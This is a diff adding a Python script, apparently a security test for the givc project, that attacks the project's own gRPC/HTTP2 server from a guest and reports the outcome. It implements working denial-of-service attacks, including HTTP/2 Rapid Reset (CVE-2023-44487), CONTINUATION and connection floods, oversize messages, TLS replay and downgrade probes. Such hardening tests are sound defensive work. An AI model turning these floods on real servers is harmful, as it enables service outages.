@@ -1,0 +1,258 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""What a hostile guest does to a server of givc: python3 attack.py ATTACK ADDRESS PORT DIRECTORY. Runs in a guest of a
+fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
+import collections
+import contextlib
+import select
+import socket
+import ssl
+import sys
+import time
+
+import h2raw
+from h2raw import END_HEADERS, END_STREAM, frame, grpc_headers, grpc_message, hpack
+
+SECONDS = 3  # that one attack goes on, at most
+METHODS = ('QueryList', 'Watch', 'GetUnitStatus', 'RegisterService', 'StartVM', 'StartService', 'StartApplication', 'PauseApplication',
+           'ResumeApplication', 'StopApplication', 'Poweroff', 'Reboot', 'Suspend', 'Wakeup', 'SetLocale', 'SetTimezone',
+           'ListGenerations', 'SetGeneration', 'NotifyUser', 'NoSuchMethod')
+
+
+class Attacker:
+    def __init__(self, address, port, directory):
+        self.where, self.directory = (address, int(port)), directory
+        self.end = time.monotonic() + SECONDS
+
+    def going(self):
+        return time.monotonic() < self.end
+
+    def connect(self):
+        return socket.create_connection(self.where, timeout=2)
+
+    def context(self, certificate=True, version=None):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.set_alpn_protocols(['h2'])
+        if certificate:
+            context.load_cert_chain(f'{self.directory}/cert.pem', f'{self.directory}/key.pem')
+        if version:
+            context.minimum_version = context.maximum_version = version
+        return context
+
+    def http2(self, *settings):
+        connection = h2raw.Connection(self.context().wrap_socket(self.connect()), timeout=5)
+        connection.open(*settings)
+        return connection
+
+    def flood(self, connection, blocks):
+        """Sends until it is cut off, or the time is over; reads nothing that it does not have to."""
+        try:
+            for block in blocks:
+                if not self.going():
+                    return 'still there'
+                connection.send(block)
+        except (h2raw.Closed, OSError):
+            return 'cut off'
+        return 'done'
+
+    # --- one for each attack
+
+    def connections(self):
+        """10 000, of which those that are let stay do."""
+        held, refused = collections.deque(), 0
+        for _ in range(10_000):
+            try:
+                held.append(self.connect())
+            except OSError:
+                refused += 1
+            if len(held) > 500:
+                held.popleft().close()
+        return f'{10_000 - refused} connected'
+
+    def half_open(self):
+        """Handshakes that begin and do not go on, all the time."""
+        held = []
+        while self.going():
+            with contextlib.suppress(OSError):
+                held.append(self.connect())
+                held[-1].sendall(b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + bytes(40))
+            if len(held) > 300:
+                held.pop(0).close()
+        return 'done'
+
+    def handshakes(self):
+        """Whole ones, and nothing after them."""
+        n = 0
+        while self.going():
+            with contextlib.suppress(OSError), self.context().wrap_socket(self.connect()):
+                n += 1
+        return f'{n} handshakes'
+
+    def slow_watch(self):
+        """Watches on many connections, none of which is read, with a window for nothing."""
+        held = []
+        with contextlib.suppress(h2raw.Closed, OSError):
+            for _ in range(20):
+                held.append(self.http2((h2raw.INITIAL_WINDOW_SIZE, 0)))
+                for stream in range(1, 401, 2):
+                    held[-1].request(stream, grpc_message(b''), grpc_headers('/admin.AdminService/Watch'))
+        while self.going():
+            time.sleep(0.1)
+        return f'{len(held)} connections'
+
+    def pour(self, connection, data):
+        """Sends and reads as it goes. Whether it could."""
+        try:
+            return connection.flood([data]) is None
+        except (h2raw.Closed, OSError):
+            return False
+
+    def methods(self):
+        """Every method, with a request of nothing and two of nonsense, as fast as it goes, again when it is cut off."""
+        n = 0
+        while self.going():
+            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
+                stream, standing = -1, True
+                while standing and self.going():
+                    blocks = []
+                    for method in METHODS:
+                        for data in (b'', b'\x0a\x03abc', b'\xff\xff\xff'):
+                            stream += 2
+                            headers = hpack(*grpc_headers(f'/admin.AdminService/{method}'))
+                            blocks += [frame(h2raw.HEADERS, END_HEADERS, stream, headers),
+                                       frame(h2raw.DATA, END_STREAM, stream, grpc_message(data))]
+                    standing = self.pour(connection, b''.join(blocks))
+                    n += len(blocks) // 2
+        return f'{n} calls'
+
+    def queries(self):
+        """One call again and again, on eight connections at once."""
+        block, n = hpack(*grpc_headers('/admin.AdminService/QueryList')), 0
+        while self.going():
+            with contextlib.suppress(h2raw.Closed, OSError), contextlib.ExitStack() as stack:
+                connections = [stack.enter_context(self.http2()) for _ in range(8)]
+                for stream in range(1, 1_000_001, 2):
+                    request = frame(h2raw.HEADERS, END_HEADERS, stream, block) + frame(h2raw.DATA, END_STREAM, stream, grpc_message(b''))
+                    if not self.going() or not all([self.pour(connection, request) for connection in connections]):
+                        break
+                    n += len(connections)
+        return f'{n} calls'
+
+    def rapid_reset(self):
+        """CVE-2023-44487, and again as soon as it is cut off."""
+        block, cut = hpack(*grpc_headers('/admin.AdminService/QueryList')), 0
+        while self.going():
+            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
+                many = b''.join(frame(h2raw.HEADERS, END_HEADERS, s, block) + h2raw.rst_stream(s) for s in range(1, 4001, 2))
+                cut += self.flood(connection, [many] * 2) == 'cut off'
+                if self.going():
+                    connection.receive_end()
+        return f'{cut} times cut off'
+
+    def headers(self):
+        """100 MB of a header block that does not end."""
+        with self.http2() as connection:
+            connection.send(frame(h2raw.HEADERS, 0, 1, hpack(*grpc_headers())))
+            piece = frame(h2raw.CONTINUATION, 0, 1, hpack(('h', 'x' * 16000)))
+            return self.flood(connection, (piece for _ in range(100_000_000 // len(piece))))
+
+    def oversize(self):
+        """Messages that say they are 4 GiB, and 16 connections of messages of 4 MB, none of which ends."""
+        with contextlib.ExitStack() as stack:
+            connections = [stack.enter_context(self.http2()) for _ in range(16)]
+            for connection in connections:
+                connection.request(1, grpc_message(b'x' * 100, length=0xFFFFFFFF), grpc_headers('/admin.AdminService/QueryList'))
+                for stream in range(3, 23, 2):
+                    connection.request(stream, grpc_message(b'', length=4_000_000), grpc_headers('/admin.AdminService/StartService'),
+                                       end=False)
+            while self.going():
+                for connection in connections:
+                    for stream in range(3, 23, 2):
+                        with contextlib.suppress(h2raw.Closed, OSError):
+                            connection.send(frame(h2raw.DATA, 0, stream, bytes(16384)))
+                time.sleep(0.01)  # the peer's pace, not a wait for anything
+        return 'done'
+
+    def replay(self):
+        """A whole session as it went over the wire, again."""
+        recorded = []
+        with self.connect() as raw:
+            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+            session = self.context().wrap_bio(incoming, outgoing)
+
+            def step(function, *arguments):
+                done = False
+                while not done:
+                    try:
+                        function(*arguments)
+                        done = True
+                    except ssl.SSLWantReadError:
+                        pass
+                    if outgoing.pending:
+                        recorded.append(outgoing.read())
+                        raw.sendall(recorded[-1])
+                    if not done:
+                        incoming.write(raw.recv(65536))
+
+            step(session.do_handshake)
+            step(session.write, h2raw.PREFACE + h2raw.settings() + frame(
+                h2raw.HEADERS, END_HEADERS | END_STREAM, 1, hpack(*grpc_headers('/admin.AdminService/QueryList'))))
+            step(session.read, 1)
+        for _ in range(50):
+            with contextlib.suppress(OSError), self.connect() as raw:
+                for part in recorded:
+                    raw.sendall(part)
+                raw.shutdown(socket.SHUT_WR)
+                while raw.recv(65536):
+                    pass
+        return f'{len(recorded)} parts recorded'
+
+    def tls12(self):
+        return self._shake(self.context(version=ssl.TLSVersion.TLSv1_2))
+
+    def downgrade(self):
+        """A ClientHello of TLS 1.0 to 1.2 without supported_versions, and SSL 2's."""
+        answers = []
+        for hello in (b'\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03' + bytes([minor]) + bytes(32) + b'\x00\x00\x04\xc0\x2b\xc0\x2c\x01\x00'
+                      for minor in (1, 2, 3)):
+            with self.connect() as raw:
+                raw.sendall(hello)
+                answers.append(raw.recv(100)[:1])
+        return 'accepted' if b'\x16' in answers else 'refused'
+
+    def renegotiation(self):
+        """A second ClientHello in a connection that stands, in clear: TLS 1.3 has no renegotiation (RFC 8446, 4.1.2)."""
+        session = self.context().wrap_socket(self.connect())
+        session.sendall(h2raw.PREFACE + h2raw.settings())
+        session.recv(1)
+        with socket.socket(fileno=session.detach()) as raw:
+            raw.settimeout(5)
+            raw.sendall(b'\x16\x03\x03\x00\x2f\x01\x00\x00\x2b\x03\x03' + bytes(32) + b'\x00\x00\x04\x13\x01\x13\x02\x01\x00')
+            return self._until_closed(raw)
+
+    def no_certificate(self):
+        return self._shake(self.context(certificate=False))
+
+    def wrong_certificate(self):
+        return self._shake(self.context())
+
+    def _shake(self, context):
+        """TLS 1.3: a client has done its part before the server has judged it. What counts is whether it is answered."""
+        try:
+            with self.connect() as raw, context.wrap_socket(raw) as session:
+                session.sendall(h2raw.PREFACE + h2raw.settings())
+                return 'accepted' if session.recv(1) else 'refused'
+        except OSError:
+            return 'refused'
+
+    @staticmethod
+    def _until_closed(raw):
+        with contextlib.suppress(ConnectionError):
+            while select.select([raw], [], [], 5)[0]:
+                if not raw.recv(65536):
+                    return 'refused'
+            return 'still there'
+        return 'refused'
+
+
+print(getattr(Attacker(*sys.argv[2:]), sys.argv[1])())
